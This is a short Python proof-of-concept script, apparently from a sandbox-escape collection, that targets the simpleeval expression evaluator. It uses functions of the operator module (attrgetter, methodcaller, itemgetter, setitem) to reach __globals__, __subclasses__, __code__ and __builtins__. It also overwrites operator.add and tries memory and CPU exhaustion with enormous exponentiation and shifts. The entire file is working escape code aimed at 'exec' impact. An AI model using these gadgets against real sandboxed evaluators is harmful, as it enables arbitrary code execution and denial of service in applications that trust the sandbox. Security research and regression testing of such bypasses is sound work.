# technique: functions of the module operator do what the evaluator refuses
# source: https://github.com/danthedeckie/simpleeval/pull/199
# goal: attributes, calls and sizes past the guards
# impact: exec
import operator


def f():
    pass


found = []
for read in (
    lambda: operator.attrgetter('__globals__')(f),
    lambda: operator.attrgetter('__class__.__base__.__subclasses__')(f)(),
    lambda: operator.methodcaller('__getattribute__', '__code__')(f),
    lambda: operator.methodcaller('format', f)('{0.__globals__}'),
    lambda: operator.call(operator.attrgetter('__code__'), f),
    lambda: operator.itemgetter('__builtins__')(operator.attrgetter('__dict__')(operator)),
    lambda: operator.setitem(operator.attrgetter('__dict__')(operator), 'add', f),
    lambda: operator.mod('%s', operator.attrgetter('__closure__')(f)),
):
    try:
        found.append(read())
    except (AttributeError, TypeError, KeyError):
        pass
for make in (lambda: operator.pow(10, 10 ** 9), lambda: operator.mul('a', 1 << 40), lambda: operator.lshift(1, 1 << 40), lambda: operator.ipow(7, 10 ** 9)):
    try:
        make()
        found.append(make)
    except (OverflowError, MemoryError, ValueError):
        pass
if found:
    ESCAPED = found
